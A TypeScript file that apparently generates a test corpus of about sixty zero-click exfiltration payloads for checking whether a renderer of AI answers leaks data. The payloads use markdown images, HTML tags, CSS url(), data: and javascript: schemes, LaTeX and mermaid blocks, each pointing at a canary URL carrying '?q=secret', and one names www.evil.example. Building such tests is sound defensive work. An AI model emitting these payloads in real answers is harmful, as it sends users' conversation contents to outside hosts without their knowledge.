/** Sixty ways in which an answer could make a browser tell `canary` what was said, without anybody pressing anything. */
export function listExfiltrationPayloads(canary: string): string[] {
  const at = (name: string) => `${canary}/${name}?q=secret`;
  return [...listMarkdown(at), ...listHtml(at), ...listSchemes(at), ...listNested(at)];
}

type Address = (name: string) => string;

const listMarkdown = (at: Address) => [
  `![image](${at("md")})`,
  `![image with a title](${at("md-title")} "a title")`,
  `![image in angles](<${at("md-angle")}>)`,
  `![full reference][r1]\n\n[r1]: ${at("ref-full")}`,
  `![r2][]\n\n[r2]: ${at("ref-collapsed")}`,
  `![r3]\n\n[r3]: <${at("ref-shortcut")}> 'title'`,
  `[![image in a link](${at("md-inner")})](${at("md-outer")})`,
  `An autolink <${at("auto")}>, a bare ${at("bare")} and www.evil.example/bare`,
  `A note[^n1].\n\n[^n1]: ![in a footnote](${at("footnote")})`,
  `![](${at("md-empty")})`,
  `![a](${at("md-unicode")}&x=%F0%9F%98%80)`,
  `!\\[escaped](${at("md-escaped")}) and \\![a](${at("md-escaped-2")})`,
  `![a\nb](${at("md-newline")})`,
  `**![in bold](${at("md-bold")})** _![in italics](${at("md-em")})_ ~~![struck](${at("md-del")})~~`,
  `# ![in a heading](${at("md-heading")})`,
  `![a][r4]\n\n[r4]: ${at("ref-first")}\n[r4]: ${at("ref-second")}`,
];

const listHtml = (at: Address) => [
  `<img src="${at("img")}">`,
  `<IMG SRC=${at("img-upper")} width=1 height=1>`,
  `<img srcset="${at("srcset-1")} 1x, ${at("srcset-2")} 2x">`,
  `<picture><source srcset="${at("source")}"><img src="${at("picture")}"></picture>`,
  `<video src="${at("video")}" poster="${at("poster")}" autoplay></video>`,
  `<audio src="${at("audio")}" autoplay preload="auto"></audio>`,
  `<video><source src="${at("video-source")}"><track default src="${at("track")}"></video>`,
  `<iframe src="${at("iframe")}"></iframe>`,
  `<iframe srcdoc="<img src='${at("srcdoc")}'>"></iframe>`,
  `<object data="${at("object")}"></object><embed src="${at("embed")}">`,
  `<svg><image href="${at("svg-image")}" /><use href="${at("svg-use")}#x" /></svg>`,
  `<svg><style>*{fill:url(${at("svg-fill")}#a)}</style><rect filter="url(${at("svg-filter")}#f)" /></svg>`,
  `<link rel="stylesheet" href="${at("stylesheet")}">`,
  `<link rel="prefetch" href="${at("prefetch")}"><link rel="preload" as="image" href="${at("preload")}">`,
  `<link rel="preconnect" href="${at("preconnect")}"><link rel="dns-prefetch" href="${at("dns")}">`,
  `<link rel="modulepreload" href="${at("module")}"><link rel="icon" href="${at("icon")}">`,
  `<style>@import url("${at("import")}");</style>`,
  `<style>body{background:url(${at("background")})} @font-face{font-family:a;src:url(${at("font")})}</style>`,
  `<div style="background-image:url('${at("style")}')">x</div>`,
  `<table background="${at("table")}"><tr><td background="${at("td")}">x</td></tr></table>`,
  `<body background="${at("body")}">`,
  `<input type="image" src="${at("input")}"><form action="${at("form")}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${at("refresh")}">`,
  `<base href="${at("base")}">`,
  `<script src="${at("script")}"></script><script type="speculationrules">{"prefetch":[{"urls":["${at("speculation")}"]}]}</script>`,
  `<a href="${at("ping-link")}" ping="${at("ping")}">x</a>`,
  `<math><mtext><img src="${at("math-img")}"></mtext></math>`,
];

const listSchemes = (at: Address) => [
  `![a](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='${at("data-svg")}'/></svg>)`,
  `![a](data:text/html;base64,${btoa(`<img src="${at("data-html")}">`)})`,
  `[a](javascript:fetch('${at("javascript")}')) ![b](javascript:fetch('${at("javascript-image")}'))`,
  `![a](blob:${at("blob")}) ![b](${at("scheme-relative").replace(/^https?:/, "")})`,
  `![a](ws${at("socket").slice(4)}) ![b](view-source:${at("view-source")}) ![c](ftp${at("ftp").slice(4)})`,
];

const listNested = (at: Address) => [
  `- a\n  - b\n    - ![deep in a list](${at("list")})\n      1. <img src="${at("list-html")}">`,
  `> > > ![in quotes](${at("quote")})`,
  `| a | b |\n|---|---|\n| ![in a cell](${at("cell")}) | <img src="${at("cell-html")}"> |`,
  `- [ ] ![in a task](${at("task")})`,
  `$$\\includegraphics{${at("tex-image")}} \\href{${at("tex-href")}}{x} \\htmlStyle{background:url(${at("tex-style")})}{y}$$`,
  `\\(\\url{${at("tex-url")}}\\) \\[\\htmlData{src=${at("tex-data")}}{z}\\]`,
  `\`\`\`mermaid\ngraph TD\n  A["<img src='${at("mermaid")}'>"] --> B\n  click B "${at("mermaid-click")}"\n\`\`\``,
  `\`\`\`html\n<img src="${at("fence")}"><script src="${at("fence-script")}"></script>\n\`\`\``,
  `\`\`\`svg\n<svg><image href="${at("fence-svg")}"/></svg>\n\`\`\``,
  `\`\`\`md\n![a](${at("fence-md")})\n\`\`\`\n![after a fence](${at("after-fence")})`,
  `<details open><summary>x</summary>\n\n![in HTML](${at("details")})\n\n</details>`,
  `<!-- ![in a comment](${at("comment")}) --><![CDATA[<img src="${at("cdata")}">]]>`,
];
